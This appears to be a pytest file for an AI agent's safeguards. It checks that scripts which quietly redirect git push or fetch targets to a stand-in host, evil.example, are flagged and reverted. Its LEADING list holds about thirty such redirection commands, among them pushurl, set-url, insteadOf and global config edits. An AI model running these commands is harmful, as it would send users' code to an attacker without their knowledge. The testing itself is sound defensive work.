"""Where git's transfers go is changed only by commands that say so themselves."""

import shlex
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from tests.agent.edits.test_protected_file_restore import asked_about, watched
from tests.agent.journaling import Desk, desk_at, settle
from tests.agent.repositories import git
from tests.agent.templates import TEMPLATES
from tests.cases import cases

_EVIL = "https://evil.example/x.git"
_SSH = "git@evil.example:x.git"


def _build(top: Path) -> None:
    root = top / "project"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    git(root, "remote", "add", "origin", "https://good.example/x.git")
    git(root, "remote", "add", "upstream", "https://good.example/y.git")
    git(root, "remote", "add", "old", "git@good.example:old.git")
    git(root, "config", "branch.main.remote", "origin")
    git(root, "config", "branch.main.merge", "refs/heads/main")


@pytest.fixture
async def desk(tmp_path: Path) -> AsyncIterator[Desk]:
    TEMPLATES.copy(_build, tmp_path)
    async with desk_at(tmp_path / "project", tmp_path / "data") as desk:
        settle()
        yield desk


LEADING = [
    *(f"git config remote.origin.pushurl {each}" for each in (_EVIL, _SSH)),
    f"git config --add remote.upstream.pushurl {_EVIL}",
    f"git config remote.later.pushurl {_EVIL}",
    f"git config branch.main.pushRemote {_EVIL}",
    f"git config branch.main.remote {_EVIL}",
    f"git config branch.other.pushRemote {_SSH}",
    f"git config branch.other.remote {_SSH}",
    f"git config remote.origin.url {_EVIL}",
    f"git config --add remote.origin.url {_EVIL}",
    f"git remote set-url origin {_EVIL}",
    f"git remote set-url --push origin {_EVIL}",
    f"git remote set-url --add --push origin {_EVIL}",
    f"git remote remove origin && git remote add origin {_EVIL}",
    "git remote remove origin",
    "git remote rename origin away",
    f"git remote add later {_EVIL}; git config branch.main.remote later",
    f"git remote add later {_EVIL}; git config branch.main.pushRemote later",
    f"git remote add later {_EVIL}; git config branch.other.remote later",
    "git config branch.main.remote old",
    f"git config --file .git/config remote.origin.pushurl {_EVIL}",
    f"printf '[remote \"origin\"]\\npushurl = {_EVIL}\\n' >> .git/config",
    f"git config url.{_EVIL}.insteadOf https://good.example/",
    f"git config url.{_EVIL}.pushInsteadOf https://good.example/",
    f"git config --global url.{_EVIL}.insteadOf https://good.example/",
    f"git config --global remote.origin.pushurl {_EVIL}",
    f"git config --global branch.main.pushRemote {_EVIL}",
    f"git config --global remote.origin.url {_EVIL}",
    f"git config --global remote.later.url {_EVIL}",
    f"git config --file .git/config.worktree remote.origin.url {_EVIL}",
    f"git config --file .git/config.worktree remote.origin.pushurl {_EVIL}",
]


def _by_script(desk: Desk, command: str) -> str:
    desk.put("evil.sh", command)
    return "sh evil.sh"


@pytest.mark.exhaustive
async def test_of_a_script_all_that_leads_transfers_elsewhere_is_asked_about(
    desk: Desk, sealed_home: Path
) -> None:
    (sealed_home / ".gitconfig").write_text("[user]\n\tname = a\n")
    found = [len(await asked_about(desk, sealed_home, command)) for command in LEADING]
    assert [command for command, number in zip(LEADING, found, strict=True) if number != 1] == []


@pytest.mark.exhaustive
async def test_a_script_does_not_lead_transfers_elsewhere(desk: Desk, sealed_home: Path) -> None:
    (sealed_home / ".gitconfig").write_text("[user]\n\tname = a\n")
    before = (desk.root / ".git/config").read_bytes(), (sealed_home / ".gitconfig").read_bytes()
    for command in [*LEADING[::6], LEADING[-4], LEADING[-1]]:
        _, asked = await watched(desk, _by_script(desk, command))
        assert len(asked) == 1, command
        after = (desk.root / ".git/config").read_bytes(), (sealed_home / ".gitconfig").read_bytes()
        assert after == before, command


SAID = [each for each in LEADING if each.startswith("git") and " url." not in each]


@pytest.mark.exhaustive
async def test_a_command_that_says_so_does(desk: Desk, sealed_home: Path) -> None:
    configuration = desk.root / ".git/config"
    before = configuration.read_bytes()
    for command in SAID:
        (sealed_home / ".gitconfig").write_text("[user]\n\tname = a\n")
        configuration.write_bytes(before)
        configuration.with_name("config.worktree").unlink(missing_ok=True)
        settle()
        found, asked = await watched(desk, command)
        assert (asked, found.put_back) == ([], []), command


@cases(
    "command",
    [
        "git push -q origin main; git config remote.origin.pushurl {}",
        "git remote -v; git config branch.main.pushRemote {}",
        "git config user.name b; git remote set-url origin {}",
        "git push -q origin main; git remote remove origin",
    ],
)
async def test_what_it_says_beside_that_is_none_of_it(desk: Desk, command: str) -> None:
    said, script = command.split("; ", 1)
    desk.put("evil.sh", script.format(_EVIL))
    _, asked = await watched(desk, f"{said.format(shlex.quote(_EVIL))}; sh evil.sh")
    assert len(asked) == 1


ORDINARY = [
    "git remote add later https://other.example/z.git",
    "git checkout -qb work; git config branch.work.remote upstream; git config branch.work.pushRemote origin",
    "git config branch.work2.remote .",
    "git branch --unset-upstream main",
    "git config --unset branch.main.remote",
    "git remote add last git@other.example:z.git; git remote set-url last git@other.example:y.git",
    "git config --add remote.origin.fetch '+refs/pull/*/head:refs/remotes/origin/pr/*'",
]


async def test_ordinary_work_of_scripts_is_not_asked_about(desk: Desk) -> None:
    git(desk.root, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x")
    found, asked = await watched(desk, _by_script(desk, "\n".join(ORDINARY)))
    assert (asked, found.put_back) == ([], [])
